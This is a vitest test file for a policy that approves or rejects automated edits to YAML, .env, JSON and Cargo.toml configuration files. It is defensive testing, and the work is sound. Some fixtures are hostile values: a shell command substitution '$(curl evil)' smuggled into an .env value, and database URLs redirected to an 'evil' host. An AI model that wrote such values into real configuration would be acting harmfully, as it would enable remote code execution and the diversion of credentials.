import { describe, expect, it } from "vitest";
import { DEFAULT_ALLOW_GLOBS, DEFAULT_DENY_GLOBS } from "../config/autofix-section.js";
import { configFormat } from "./config-rules.js";
import { decideEdit, type PolicyInput } from "./policy.js";

const options = { allow: DEFAULT_ALLOW_GLOBS, deny: DEFAULT_DENY_GLOBS, maxChangedLines: 10 };

const CARGO = `[package]
name = "server"
version = "0.1.0"
edition = "2021"

[profile.release]
opt-level = 3

[dependencies]
serde = "1"
`;

const CONFIG_YAML = `server:
  listen: 0.0.0.0:8080
  request_timeout: 30s
  log_level: info
database:
  pool_size: 10
  url: postgres://db/app
`;

const ENV = "AI_TIMEOUT_SECS=30\nDATABASE_URL=postgres://db/app\nLOG_LEVEL=info\n";
const JSON_CONFIG = '{\n  "retries": 2,\n  "timeout_ms": 30000,\n  "api_key": "k"\n}\n';

type Row = [name: string, input: PolicyInput, expected: RegExp | "config"];

const rows: Row[] = [
  [
    "yaml duration",
    {
      file: "config/app.yaml",
      find: "request_timeout: 30s",
      replace: "request_timeout: 60s",
      original: CONFIG_YAML,
    },
    "config",
  ],
  [
    "yaml log level",
    { file: "config/app.yml", find: "log_level: info", replace: "log_level: warn", original: CONFIG_YAML },
    "config",
  ],
  [
    "env default",
    { file: ".env", find: "AI_TIMEOUT_SECS=30", replace: "AI_TIMEOUT_SECS=60", original: ENV },
    "config",
  ],
  [
    "json number",
    { file: "config/settings.json", find: '"retries": 2,', replace: '"retries": 3,', original: JSON_CONFIG },
    "config",
  ],
  [
    "Cargo.toml profile value",
    { file: "Cargo.toml", find: "opt-level = 3", replace: "opt-level = 2", original: CARGO },
    "config",
  ],
  [
    "a new dependency",
    {
      file: "Cargo.toml",
      find: "[dependencies]\n",
      replace: '[dependencies]\nreqwest = "0.12"\n',
      original: CARGO,
    },
    /Cargo\.toml dependencies/,
  ],
  [
    "a dependency bump",
    { file: "Cargo.toml", find: 'serde = "1"', replace: 'serde = "2"', original: CARGO },
    /Cargo\.toml dependencies/,
  ],
  [
    "a Cargo build key",
    { file: "Cargo.toml", find: 'edition = "2021"', replace: 'build = "x.rs"', original: CARGO },
    /renames a key|makes cargo run/,
  ],
  [
    "a yaml url",
    {
      file: "config/app.yaml",
      find: "url: postgres://db/app",
      replace: "url: postgres://evil/app",
      original: CONFIG_YAML,
    },
    /names a url/,
  ],
  [
    "a yaml key added",
    {
      file: "config/app.yaml",
      find: "  pool_size: 10\n",
      replace: "  pool_size: 10\n  admin: true\n",
      original: CONFIG_YAML,
    },
    /adds or removes configuration lines/,
  ],
  [
    "a yaml key renamed",
    { file: "config/app.yaml", find: "pool_size: 10", replace: "pool_max: 10", original: CONFIG_YAML },
    /renames a key/,
  ],
  [
    "an env secret",
    {
      file: ".env",
      find: "DATABASE_URL=postgres://db/app",
      replace: "DATABASE_URL=postgres://evil/app",
      original: ENV,
    },
    /names a url/,
  ],
  [
    "an env command substitution",
    { file: ".env", find: "LOG_LEVEL=info", replace: "LOG_LEVEL=$(curl evil)", original: ENV },
    /shell/,
  ],
  [
    "a json key that is a secret",
    {
      file: "config/settings.json",
      find: '"api_key": "k"',
      replace: '"api_key": "x"',
      original: JSON_CONFIG,
    },
    /security-related|names a key/,
  ],
  [
    "a value kind change",
    {
      file: "config/settings.json",
      find: '"retries": 2,',
      replace: '"retries": "2",',
      original: JSON_CONFIG,
    },
    /changes kind/,
  ],
  [
    "a flipped flag",
    {
      file: "app.toml",
      find: "strict = true",
      replace: "strict = false",
      original: "[checks]\nstrict = true\n",
    },
    /flips the boolean strict/,
  ],
];

describe("configuration edits", () => {
  it.each(rows)("%s", (_name, input, expected) => {
    const decision = decideEdit(input, options);
    if (expected === "config") expect(decision).toMatchObject({ allowed: true, rule: "config" });
    else expect(decision.allowed ? "allowed" : decision.reason).toMatch(expected);
  });
});

describe("configFormat", () => {
  it.each([
    ["Cargo.toml", "toml"],
    ["config/app.YAML", "yaml"],
    ["deploy/app.yml", "yaml"],
    ["settings.json", "json"],
    [".env", "env"],
    [".env.production", "env"],
    ["prod.env", "env"],
    ["nginx.conf", "ini"],
    ["src/main.rs", null],
    ["Makefile", null],
  ])("%s: %s", (path, format) => {
    expect(configFormat(path)).toBe(format);
  });
});
